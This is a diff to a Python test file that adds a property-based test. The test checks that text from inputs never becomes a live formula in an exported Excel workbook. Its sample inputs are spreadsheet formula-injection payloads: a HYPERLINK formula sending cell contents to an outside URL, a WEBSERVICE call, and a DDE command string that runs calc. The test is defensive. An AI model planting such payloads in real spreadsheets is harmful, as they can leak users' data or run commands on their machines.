@@ -12,19 +12,23 @@ inline event handler and no request to another site from the input.
 
 from __future__ import annotations
 
+import io
 import os
 import re
 import shutil
 import tempfile
+import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
 
 import nbformat
+import openpyxl
 import pandas as pd
 import pytest
 from fuzzing import assert_contract
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from analysis import paths
 from analysis.errors import InputError
@@ -267,3 +271,42 @@ def test_the_page_check_finds_scripts_handlers_fetches_and_script_links() -> Non
     )
     assert len(_security_findings(page)) == 6
     assert not _has_csp(page)
+
+
+# ---- text in the result workbook stays text -------------------------------------------------
+
+
+@settings(max_examples=40)
+@given(
+    texts=st.lists(
+        st.one_of(
+            st.sampled_from(
+                (
+                    '=HYPERLINK("https://example.com/?d="&A1,"click")',
+                    '=WEBSERVICE("https://example.com")',
+                    "=1+1",
+                    "=cmd|' /C calc'!A0",
+                    "+1+1",
+                    "-2+3",
+                    "@SUM(1)",
+                    SCRIPT,
+                )
+            ),
+            st.text(max_size=20).map(lambda t: "=" + t),
+            st.text(max_size=20),
+        ),
+        min_size=1,
+        max_size=5,
+    )
+)
+def test_text_from_inputs_is_never_a_formula_in_the_result_workbook(texts: list[str]) -> None:
+    from analysis.excel import workbook_bytes
+
+    texts = [t for t in (ILLEGAL_CHARACTERS_RE.sub("", t) for t in texts) if t.strip()] or ["=1"]
+    frame = pd.DataFrame({texts[0]: texts, "cost_gbp": range(len(texts))})
+    raw = workbook_bytes({"names": frame})
+    with zipfile.ZipFile(io.BytesIO(raw)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert all("<f>" not in book.read(n).decode() for n in sheets)
+    sheet = openpyxl.load_workbook(io.BytesIO(raw))["names"]
+    assert [c.value for c in sheet["A"]] == [texts[0], *texts]
